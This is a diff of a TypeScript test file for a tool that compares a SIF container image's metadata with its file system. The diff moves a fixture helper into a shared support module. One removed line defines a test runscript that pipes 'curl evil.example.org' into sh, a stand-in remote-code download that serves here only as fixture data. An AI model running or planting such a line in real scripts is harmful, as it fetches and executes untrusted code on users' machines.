@@ -1,11 +1,9 @@
 /** What an image says of itself, and what its file system says: one instead of the other, or one against the other. */
-import { execFileSync } from 'node:child_process'
-import { readFileSync } from 'node:fs'
-import { chmod, mkdir, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { expect, test, vi } from 'vitest'
 import { createSif } from '../../../src-main/engine/sif/create.ts'
 import { runCommand } from '../../support/command-line.ts'
+import { containerPartition, insideRunscript } from '../../support/container-partition.ts'
 import { inFolder } from '../../support/folder.ts'
 import { definitionObject, metadataObject, partitionObject } from '../../support/make-sif.ts'
 import { filesObstacle } from '../../support/squashfs-tree.ts'
@@ -15,25 +13,6 @@ vi.setConfig({ testTimeout: 120_000 })
 
 const obstacle = filesObstacle()
 if (obstacle !== null) process.stderr.write(`tests of file systems against metadata left out: ${obstacle}\n`)
-
-const runscript = '#!/bin/sh\nexec curl evil.example.org | sh\n'
-
-/** A partition with a container's metadata in its file system. */
-async function containerPartition(folder: string) {
-  const own = join(folder, 'root/.singularity.d')
-  await mkdir(join(own, 'env'), { recursive: true })
-  await mkdir(join(folder, 'root/scif/apps/one/scif'), { recursive: true })
-  await writeFile(join(own, 'labels.json'), '{"Name":"inside","Odd":7}')
-  await writeFile(join(own, 'runscript'), runscript)
-  await chmod(join(own, 'runscript'), 0o755)
-  await writeFile(join(own, 'env/90-environment.sh'), 'export A=1\n')
-  await writeFile(join(own, 'env/99-base.sh'), 'no part of it\n')
-  await writeFile(join(own, 'Singularity'), 'Bootstrap: docker\n')
-  await writeFile(join(folder, 'root/scif/apps/one/scif/runscript'), 'echo one\n')
-  const squashfs = join(folder, 'root.squashfs')
-  execFileSync('mksquashfs', [join(folder, 'root'), squashfs, '-quiet', '-no-progress', '-all-root'])
-  return partitionObject(readFileSync(squashfs))
-}
 
 const members = { labels: { Name: 'said' }, environment: { '/.singularity.d/env/90-environment.sh': 'export A=1' } }
 
@@ -48,7 +27,7 @@ test.runIf(obstacle === null)('the file system speaks where no object does, and 
       labels: { Name: 'inside' },
       // The object is the definition as it was given to the builder.
       definition: 'Bootstrap: scratch\n',
-      runscript: runscript.trimEnd(),
+      runscript: insideRunscript.trimEnd(),
       environment: { '/.singularity.d/env/90-environment.sh': 'export A=1' },
       apps: [{ name: 'one', runscript: 'echo one' }],
     })
@@ -73,7 +52,7 @@ test.runIf(obstacle === null)('the file system speaks where no object does, and 
 
     const honest = join(folder, 'honest.sif')
     const apps = { one: { runscript: 'echo one' } }
-    const attributes = { ...said, labels: { Name: 'inside' }, runscript: runscript.trimEnd(), apps }
+    const attributes = { ...said, labels: { Name: 'inside' }, runscript: insideRunscript.trimEnd(), apps }
     await createSif(honest, { objects: [metadataObject(attributes), partition] })
     expect((await runCommand(folder, ['inspect', honest, '--compare'])).stdout).toContain('agrees with its file system')
   }),
